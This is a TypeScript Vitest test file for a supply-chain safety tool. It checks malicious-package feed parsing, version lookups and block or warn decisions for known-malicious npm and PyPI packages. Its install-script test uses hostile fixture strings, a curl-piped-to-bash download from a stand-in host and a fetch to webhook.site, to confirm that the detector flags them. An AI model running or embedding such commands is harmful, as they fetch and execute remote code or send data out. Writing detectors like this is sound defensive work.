import { describe, expect, it } from 'vitest';
import { knownMalicious } from '../../../src/checks/known-malicious.js';
import { decide } from '../../../src/core/decide.js';
import { toReport } from '../../../src/checks/run-checks.js';
import { feedNotice } from '../../../src/feed/feed-store.js';
import { lookUp, parseOsvZip } from '../../../src/feed/malicious-feed.js';
import { feedSource } from '../../../src/feed/process-feed.js';
import { osvZip } from '../../helpers/osv-feed.js';
import { makeContext, makeFacts, makeFeed, NOW } from '../../helpers/make-facts.js';

const zip = osvZip([
  { id: 'MAL-2025-1001', ecosystem: 'npm', name: 'evil-pkg', versions: ['1.0.1', '1.0.2'], summary: 'Steals npm tokens' },
  { id: 'MAL-2025-1002', ecosystem: 'npm', name: 'always-evil' },
  { id: 'MAL-2025-1003', ecosystem: 'PyPI', name: 'Evil_Py', versions: ['0.1'] },
]);
const npmFeed = parseOsvZip(zip, 'npm', { source: 'test', fetchedAt: NOW });
const pypiFeed = parseOsvZip(zip, 'pypi', { source: 'test', fetchedAt: NOW });

describe('parsing an OSV export', () => {
  it('keeps the MAL- records of the ecosystem, not advisories or other ecosystems', () => {
    expect(Object.keys(npmFeed.records).sort()).toEqual(['always-evil', 'evil-pkg']);
    expect(npmFeed.records['evil-pkg']).toEqual([{ id: 'MAL-2025-1001', summary: 'Steals npm tokens', versions: ['1.0.1', '1.0.2'] }]);
    expect(npmFeed.records['always-evil']![0]!.versions).toBeNull();
    expect(Object.keys(pypiFeed.records)).toEqual(['evil-py']); // PEP 503
  });
  it('refuses a truncated archive and one without MAL- records', () => {
    expect(() => parseOsvZip(zip.subarray(0, zip.length / 2), 'npm', { source: 't', fetchedAt: NOW })).toThrow(/zip/);
    expect(() => parseOsvZip(osvZip([]), 'npm', { source: 't', fetchedAt: NOW })).toThrow(/no MAL- records/);
  });
  it('looks names up by exact version, other versions, every version', () => {
    expect(lookUp(npmFeed, 'evil-pkg', '1.0.1')?.kind).toBe('version');
    expect(lookUp(npmFeed, 'evil-pkg', '1.0.0')).toMatchObject({ kind: 'name', versions: ['1.0.1', '1.0.2'] });
    expect(lookUp(npmFeed, 'always-evil', '9.9.9')?.kind).toBe('version');
    expect(lookUp(pypiFeed, 'evil.py', '0.1')?.kind).toBe('version');
    expect(lookUp(npmFeed, 'lodash', '4.17.20')).toBeUndefined();
  });
});

describe('known-malicious check', () => {
  const ctx = { ...makeContext(), feed: makeFeed(npmFeed.records) };
  const run = (name: string, version: string) => knownMalicious.run(makeFacts({ name, requested: name, version }), ctx);

  it('is an offline check', () => expect(knownMalicious.needsNetwork).toBe(false));
  it('blocks an exact version with the record id and summary', () => {
    expect(run('evil-pkg', '1.0.2')).toEqual([expect.objectContaining({
      severity: 'block', message: 'evil-pkg@1.0.2 is known malicious: MAL-2025-1001, Steals npm tokens',
    })]);
    expect(run('always-evil', '3.0.0')[0]!.severity).toBe('block');
  });
  it('warns on another version of a listed name', () => {
    expect(run('evil-pkg', '1.0.0')).toEqual([expect.objectContaining({
      severity: 'warn', message: 'other versions of "evil-pkg" are known malicious (1.0.1, 1.0.2: MAL-2025-1001, Steals npm tokens); 1.0.0 is not listed',
    })]);
  });
  it('says nothing of an unlisted name', () => expect(run('left-pad', '1.3.0')).toEqual([]));
  it('trusting the name does not accept a known-malicious version', () => {
    const facts = makeFacts({ name: 'evil-pkg', requested: 'evil-pkg', version: '1.0.1' });
    const report = toReport(facts, knownMalicious.run(facts, ctx));
    const decision = decide({ tool: 'safe-npm', reports: [report], isTrusted: () => true, interactive: false, yes: true });
    expect(decision).toMatchObject({ action: 'stop', exitCode: 65 });
    if (decision.action === 'stop') expect(decision.reasons[0]).toContain('do not install it; choose another version');
  });
});

describe('the feed\'s own note: once per run', () => {
  it('missing: one info line with the command, then silence', () => {
    const ctx = { ...makeContext(), feed: feedSource(() => ({})) };
    const first = knownMalicious.run(makeFacts({ name: 'a', requested: 'a' }), ctx);
    expect(first).toEqual([{ check: 'known-malicious', severity: 'info', message: expect.stringContaining('run: safe-npm safe update-db') }]);
    expect(knownMalicious.run(makeFacts({ name: 'b', requested: 'b' }), ctx)).toEqual([]);
  });
  it('names the command as the user typed safe-npm (`npm safe update-db` through the shim)', () => {
    const ctx = { ...makeContext(), feed: feedSource(() => ({})), command: 'npm' };
    const [notice] = knownMalicious.run(makeFacts({ name: 'a', requested: 'a' }), ctx);
    expect(notice?.message).toMatch(/; run: npm safe update-db$/);
  });
  it('older than 7 days: info with its date; 7 days or less: nothing', () => {
    const old = { ...npmFeed, fetchedAt: new Date(NOW.getTime() - 8 * 86_400_000).toISOString() };
    expect(feedNotice({ feed: old }, NOW, 'safe-pip')).toBe(`the known-malicious feed is 8 days old (fetched ${old.fetchedAt.slice(0, 10)}); run: safe-pip safe update-db`);
    expect(feedNotice({ feed: { ...npmFeed, fetchedAt: new Date(NOW.getTime() - 7 * 86_400_000).toISOString() } }, NOW, 'safe-npm')).toBeUndefined();
  });
});

describe('install-script-content check (what the registry says the scripts are)', () => {
  it('a curl | sh command blocks, a webhook URL warns, esbuild\'s command says nothing', async () => {
    const { installScriptContent } = await import('../../../src/checks/install-script-content.js');
    const ctx = makeContext();
    const run = (scripts: Record<string, string>) => installScriptContent.run(makeFacts({ name: 'x', version: '1.0.1', installScripts: scripts }), ctx).map((f) => `${f.severity}: ${f.message}`);
    expect(run({ postinstall: 'curl -fsSL https://example.invalid/s.sh | bash' })).toEqual(['block: x@1.0.1 install script: pipes a download into an interpreter (package.json (postinstall))']);
    expect(run({ install: 'node -e "fetch(\'https://webhook.site/abc\')"' })).toEqual(['warn: x@1.0.1 install script: a URL to webhook.site (paste site, webhook, tunnel or shortener) (package.json (install))']);
    expect(run({ postinstall: 'node install.js' })).toEqual([]);
  });
});
